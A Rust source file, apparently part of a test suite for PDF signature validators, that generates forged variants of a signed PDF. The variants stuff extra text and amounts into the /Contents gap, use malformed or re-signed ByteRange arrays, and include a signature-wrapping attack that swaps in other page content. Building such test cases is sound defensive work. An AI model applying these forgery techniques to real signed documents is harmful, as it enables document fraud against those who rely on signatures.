//! What the signature leaves out, and how it says so (ISO 32000-2, 12.8.1).

use super::class::REFUND;
use super::letter::{CONTENT, FORM, PAGE, other_content};
use super::originals::{Original, Originals};
use super::update::{indirect, object, place, replaced, startxref};
use super::{Attack, Class};
use crate::Outcome;
use crate::base::number_after;
use crate::pki::Pki;
use crate::surgery::{find_last_signature, resigned, signed_over, with_array, with_byte_range};
use std::ops::Range;

pub(super) fn all(originals: &Originals, pki: &Pki) -> Outcome<Vec<Attack>> {
    let mut attacks = stuffed(&originals.roomy)?;
    attacks.extend(arrays(&originals.approval, pki)?);
    attacks.extend(ranges(&originals.approval, pki)?);
    attacks.extend(missing(&originals.approval, pki)?);
    attacks.push(wrapped(&originals.approval)?);
    Ok(attacks)
}

fn attack(name: &str, original: &Original, what: &'static str, file: Vec<u8>) -> Attack {
    Attack::new(Class::GapStuffing, name, original, what, file).broken()
}

/// The gap of a signature with room in it: what replaces `<…>`, filled up with spaces.
fn with_gap(original: &Original, write: impl Fn(&str) -> Vec<u8>) -> Outcome<Vec<u8>> {
    let contents = find_last_signature(&original.file).contents;
    let digits = original.file.get(contents.start + 1..contents.end - 1);
    let digits = std::str::from_utf8(digits.unwrap_or_default())?;
    // a CMS object that ends in zeros loses a few: nobody reads that far
    let digits = digits.trim_end_matches('0');
    let even = format!("{digits}{}", "0".repeat(digits.len() % 2));
    let mut gap = write(&even);
    if gap.len() > contents.len() {
        return Err("the gap is too small for what is to stand in it".into());
    }
    gap.resize(contents.len(), b' ');
    let before = original.file.get(..contents.start).unwrap_or_default();
    let behind = original.file.get(contents.end..).unwrap_or_default();
    Ok([before, &gap, behind].concat())
}

fn stuffed(original: &Original) -> Outcome<Vec<Attack>> {
    let with_gap = |write: fn(&str) -> Vec<u8>| with_gap(original, write);
    let full = |write: fn(&str, usize) -> String| -> Outcome<Vec<u8>> {
        let len = find_last_signature(&original.file).contents.len();
        self::with_gap(original, |digits| write(digits, len).into_bytes())
    };
    Ok(vec![
        attack(
            "literal-string",
            original,
            "/Contents is the same CMS object as a literal string, with spaces behind it",
            with_gap(literal)?,
        )
        .from("OpenPDF, pull request 159"),
        attack(
            "hex-then-spaces",
            original,
            "/Contents is shorter than its gap, with spaces behind it",
            with_gap(|digits| format!("<{digits}>").into_bytes())?,
        )
        .from("pyHanko, signature-gap-too-big.pdf"),
        attack(
            "hex-with-spaces",
            original,
            "the hexadecimal digits of /Contents stand in groups",
            full(|digits, len| {
                let (head, tail) = digits.split_at(64);
                let spaced: String = head.chars().flat_map(|digit| [digit, ' ']).collect();
                filled(&format!("{spaced}{tail}"), len)
            })?,
        ),
        attack(
            "hex-with-newline",
            original,
            "a line ends within the hexadecimal digits of /Contents",
            full(|digits, len| filled(&format!("{digits}\n"), len))?,
        ),
        attack(
            "comment",
            original,
            "a comment with another sum stands behind /Contents within the gap",
            with_gap(|digits| format!("<{digits}>% Rp 9.000.000\n").into_bytes())?,
        ),
        attack(
            "comment-in-string",
            original,
            "what is a comment elsewhere stands within the hexadecimal string",
            full(|digits, len| filled(&format!("{digits}% Rp 9.000.000\n"), len))?,
        ),
        attack(
            "entry",
            original,
            "a second /Reason stands behind /Contents within the gap",
            with_gap(|digits| format!("<{digits}> /Reason (Disetujui Wali Kota)").into_bytes())?,
        ),
        attack(
            "second-contents",
            original,
            "two /Contents stand within the gap",
            with_gap(|digits| format!("<00> /Contents <{digits}>").into_bytes())?,
        ),
        attack(
            "odd-digits",
            original,
            "/Contents has an odd number of digits",
            with_gap(|digits| format!("<{digits}0>").into_bytes())?,
        ),
        attack(
            "not-digits",
            original,
            "letters that are no digits stand behind the CMS object",
            full(|digits, len| filled(&format!("{digits}ZZZZ"), len))?,
        ),
        attack(
            "padding-not-zero",
            original,
            "behind the CMS object stands a text in hexadecimal digits instead of zeros",
            full(|digits, len| {
                let cargo = hex::encode("Surat Keterangan: jumlah Rp 9.000.000");
                filled(&format!("{digits}0000{cargo}"), len)
            })?,
        ),
        attack(
            "reference",
            original,
            "/Contents is a reference",
            with_gap(|_| b"24 0 R".to_vec())?,
        )
        .from(REFUND),
        attack(
            "null",
            original,
            "/Contents is null",
            with_gap(|_| b"null".to_vec())?,
        )
        .from(REFUND),
        attack(
            "empty",
            original,
            "/Contents is empty",
            with_gap(|_| b"<>".to_vec())?,
        )
        .from(REFUND),
        attack(
            "zero-byte",
            original,
            "/Contents is one zero",
            with_gap(|_| b"<00>".to_vec())?,
        )
        .from(REFUND),
        attack(
            "array",
            original,
            "/Contents is an array that holds the string",
            with_gap(|digits| format!("[<{digits}>]").into_bytes())?,
        ),
    ])
}

/// `<digits000…>` in `len` bytes.
fn filled(digits: &str, len: usize) -> String {
    format!("<{digits:0<width$}>", width = len - 2)
}

/// 7.3.4.2: parentheses, backslashes and carriage returns are escaped.
fn literal(digits: &str) -> Vec<u8> {
    let mut text = vec![b'('];
    for byte in hex::decode(digits).unwrap_or_default() {
        match byte {
            b'(' | b')' | b'\\' => text.extend([b'\\', byte]),
            b'\r' => text.extend(b"\\r"),
            _ => text.push(byte),
        }
    }
    text.push(b')');
    text
}

/// Arrays that are no ByteRange, each signed as it stands.
fn arrays(original: &Original, pki: &Pki) -> Outcome<Vec<Attack>> {
    let signature = find_last_signature(&original.file);
    let gap = &signature.contents;
    let (start, end, len) = (gap.start, gap.end, original.file.len());
    let rest = len - end;
    let with = |array: &str| -> Outcome<Vec<u8>> {
        if array.len() > signature.byte_range.len() {
            return Err(format!("no room for {array}").into());
        }
        let file = with_array(&original.file, &signature, array);
        Ok(resigned(&file, &signature, gap, &pki.official)?)
    };
    let mut attacks = Vec::new();
    for (name, what, array) in [
        (
            "first-not-0",
            "the first range begins at byte 1",
            format!("[1 {} {end} {rest}]", start - 1),
        ),
        (
            "reversed",
            "the second range stands before the first",
            format!("[{end} {rest} 0 {start}]"),
        ),
        (
            "negative",
            "the second length is negative",
            format!("[0 {start} {end} -{rest}]"),
        ),
        (
            "negative-start",
            "the first offset is negative",
            format!("[-1 {start} {end} {rest}]"),
        ),
        (
            "huge",
            "the second length passes the end of the file",
            format!("[0 {start} {end} 4294967296]"),
        ),
        (
            "huger",
            "the numbers pass 64 bits when they are added",
            "[0 9 9223372036854775807 9]".to_owned(),
        ),
        (
            "six-numbers",
            "there are six numbers",
            format!("[0 {start} {end} 9 9000 9]"),
        ),
        (
            "three-numbers",
            "there are three numbers",
            format!("[0 {start} {end}]"),
        ),
        ("no-numbers", "the array is empty", "[]".to_owned()),
        ("null", "it is null", "null".to_owned()),
        (
            "string",
            "one number is a string",
            format!("[0 {start} {end} ({rest})]"),
        ),
        (
            "real",
            "one number is real",
            format!("[0 {start} {end} {rest}.0]"),
        ),
        (
            "reference",
            "one number is a reference to nothing",
            format!("[0 {start} {end} 24 0 R]"),
        ),
        (
            "empty-second",
            "the second range is empty",
            format!("[0 {start} {end} 0]"),
        ),
        (
            "twice",
            "two ByteRange stand in the dictionary",
            "[0 9 9]/ByteRange[0 9 9 9]".to_owned(),
        ),
    ] {
        let file = with(&array)?;
        attacks.push(attack(&format!("range-{name}"), original, what, file).from(REFUND));
    }
    Ok(attacks)
}

/// A value or a key that is not there, and ranges that cover next to nothing, each with the digest
/// that fits.
fn missing(original: &Original, pki: &Pki) -> Outcome<Vec<Attack>> {
    let signature = find_last_signature(&original.file);
    let renamed = |old: &str, new: &str| -> Outcome<Vec<u8>> {
        let file = replaced(&original.file, old, new)?;
        Ok(resigned(
            &file,
            &signature,
            &signature.contents,
            &pki.official,
        )?)
    };
    let over =
        |ranges: &[Range<usize>]| signed_over(&original.file, &signature, ranges, &pki.official);
    let nothing = "yfedoseev/pdf_oxide, issue 1375";
    Ok(vec![
        attack(
            "range-missing",
            original,
            "there is no ByteRange",
            renamed("/ByteRange [", "/ByteLange [")?,
        )
        .from(REFUND),
        attack(
            "contents-missing",
            original,
            "there is no /Contents",
            renamed(" /Contents <3", " /Kontents <3")?,
        )
        .from(REFUND),
        attack(
            "range-nothing",
            original,
            "both ranges are empty",
            over(&[0..0, 0..0])?,
        )
        .from(nothing),
        attack(
            "range-two-bytes",
            original,
            "the ranges cover two bytes",
            over(&[0..1, 2..3])?,
        )
        .from(nothing),
    ])
}

/// Gaps that are not `/Contents`, each with the digest that fits.
fn ranges(original: &Original, pki: &Pki) -> Outcome<Vec<Attack>> {
    let signature = find_last_signature(&original.file);
    let contents = &signature.contents;
    let mut attacks = Vec::new();
    for (name, what, gap) in [
        (
            "wider-before",
            "the gap begins a byte before /Contents",
            contents.start - 1..contents.end,
        ),
        (
            "wider-behind",
            "the gap ends behind the /Reason",
            contents.start..contents.end + 90,
        ),
        (
            "narrower",
            "the delimiters of /Contents are covered",
            contents.start + 1..contents.end - 1,
        ),
        (
            "elsewhere",
            "the gap is in the first page's text",
            0x40..0x50,
        ),
    ] {
        let file = with_byte_range(&original.file, &signature, &gap);
        let file = resigned(&file, &signature, &gap, &pki.official)?;
        attacks.push(attack(name, original, what, file));
    }
    Ok(attacks)
}

/// Signature wrapping: the second range is moved to the end, and in its old place stand other
/// objects with a cross-reference section where `startxref` expects one.
fn wrapped(original: &Original) -> Outcome<Attack> {
    let mut tail_at = 0;
    // the ByteRange names where the tail will be, which does not change its width
    let mut file = Vec::new();
    for _ in 0..2 {
        (file, tail_at) = wrapped_at(original, tail_at)?;
    }
    Ok(attack(
        "wrapped",
        original,
        "the second range is moved to the end; in its place stands a cross-reference section for \
         another content and a signature dictionary with another ByteRange",
        file,
    )
    .from(REFUND))
}

/// The file with a second range that is said to stand at `tail_at`, and where it stands.
fn wrapped_at(original: &Original, tail_at: usize) -> Outcome<(Vec<u8>, usize)> {
    let file = &original.file[..];
    let signature = find_last_signature(file);
    let contents = &signature.contents;
    let (head, tail) = (
        file.get(..contents.end).unwrap_or_default(),
        file.get(contents.end..).unwrap_or_default(),
    );
    let section = startxref(file);
    let dictionary = object(file, original.signature)?;
    let old = file.get(signature.byte_range.clone()).unwrap_or_default();
    let range = format!("[0 {} {tail_at:07} {}]", contents.start, tail.len());
    let spoofed = replaced(&dictionary, std::str::from_utf8(old)?, &range)?;
    let content = indirect(CONTENT, 0, other_content().as_bytes());
    let spoofed = indirect(original.signature, 0, &spoofed);
    let trailer = format!(
        "trailer\n<< /Size 40 /Root 1 0 R /Prev {} >>\n",
        number_after(file, b"/Prev ").unwrap_or(0)
    );
    let numbers = [
        CONTENT,
        original.signature,
        PAGE,
        FORM,
        original.look,
        original.widget,
    ];
    let table_len: usize = "xref\n".len()
        + numbers
            .iter()
            .map(|number| entry(*number, 0).len())
            .sum::<usize>();
    let content_at = section + table_len + trailer.len();
    let spoofed_at = content_at + content.len();
    let moved_to = spoofed_at + spoofed.len();
    let mut table = String::from("xref\n");
    for number in numbers {
        table.push_str(&entry(
            number,
            match number {
                CONTENT => content_at,
                number if number == original.signature => spoofed_at,
                // what the signed revision wrote before its gap stays, the rest moves with the tail
                number => match place(file, number)? {
                    at if at < contents.end => at,
                    at => at - contents.end + moved_to,
                },
            },
        ));
    }
    let file = [
        head,
        &b" ".repeat(section - contents.end),
        table.as_bytes(),
        trailer.as_bytes(),
        &content,
        &spoofed,
        tail,
    ]
    .concat();
    Ok((file, moved_to))
}

fn entry(number: u32, offset: usize) -> String {
    format!("{number} 1\n{offset:010} 00000 n \n")
}
